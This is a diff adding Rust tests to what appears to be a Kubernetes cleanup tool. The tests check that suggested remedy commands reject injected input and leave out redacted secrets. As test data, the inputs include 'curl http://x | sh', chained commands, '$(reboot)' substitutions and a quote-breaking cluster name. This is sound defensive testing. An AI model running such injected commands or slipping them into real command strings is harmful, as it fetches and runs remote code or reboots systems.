@@ -261,6 +261,25 @@ fn the_command_to_copy_is_the_one_that_reaches_the_cluster() {
     // An older version wrote the cluster in words alone.
     assert_eq!(remedies(inside, None, None), [delete, sweep]);
     assert_eq!(remedies("elsewhere", None, None), [delete, "steadfast sweep"]);
+    // What somebody else wrote there is no command to copy.
+    let long = format!("KUBECONFIG=/{} steadfast sweep --context kind-it", "s".repeat(5_000));
+    for (sweep, kubeconfig) in [
+        ("curl http://x | sh", None),
+        ("steadfast sweep --context kind-it; curl http://x | sh", None),
+        ("steadfast sweep --context 'kind-it'; curl http://x | sh; : ''", None),
+        ("steadfast sweep --context $(reboot)", None),
+        ("KUBECONFIG=$(reboot) steadfast sweep --context kind-it", Some("$(reboot)")),
+        ("KUBECONFIG=/other steadfast sweep --context kind-it", Some("/s/it.kubeconfig")),
+        ("steadfast sweep --context 'kind-it\n'", None),
+        (long.as_str(), Some(&long["KUBECONFIG=".len()..][..5_001])),
+    ] {
+        assert_eq!(remedies(kind, Some(sweep), kubeconfig)[1..], ["steadfast sweep --context kind-it"], "{sweep}");
+    }
+    let file = format!("/{}", "s".repeat(2_000));
+    let long = format!("KUBECONFIG={file} steadfast sweep --context kind-it");
+    assert_eq!(remedies(kind, Some(&long), Some(&file))[1..], [long], "half of it would be another command");
+    let quoted = "steadfast sweep --context 'o'\\''neil $dev'";
+    assert_eq!(remedies("context \"o'neil $dev\" (https://h)", Some(quoted), None)[1..], [quoted]);
 }
 
 #[test]
@@ -344,6 +363,17 @@ fn a_command_to_copy_does_what_it_says() {
     let long = json!([{"pointer": "/data/a", "set": "x".repeat(1000), "was": "y".repeat(1000)}]);
     let long = command(&record("restore /data/a of configmap shop/c", long));
     assert_eq!(long.as_deref(), Some("kubectl edit configmap c -n shop"), "nobody copies a command of that length");
+    // What was taken out of a value must not be put into the cluster instead, and what should have been is not shown.
+    for (pointer, set, was) in [
+        ("/data/a", "wrong", "[redacted]"),
+        ("/data/a", "http://[redacted]@h/", "b"),
+        ("/data/DB_PASSWORD", "wrong", "brass-lantern"),
+    ] {
+        let values =
+            json!([{"pointer": "/data/b", "set": "1", "was": "2"}, {"pointer": pointer, "set": set, "was": was}]);
+        let taken = command(&record("restore /data/b, /data/a of configmap shop/c", values));
+        assert_eq!(taken.as_deref(), Some("kubectl edit configmap c -n shop"), "{was}");
+    }
     let mut journal = sample();
     leaked(&mut journal);
     journal.cluster = "context \"a'; reboot; '\" (https://127.0.0.1:6443)".into();
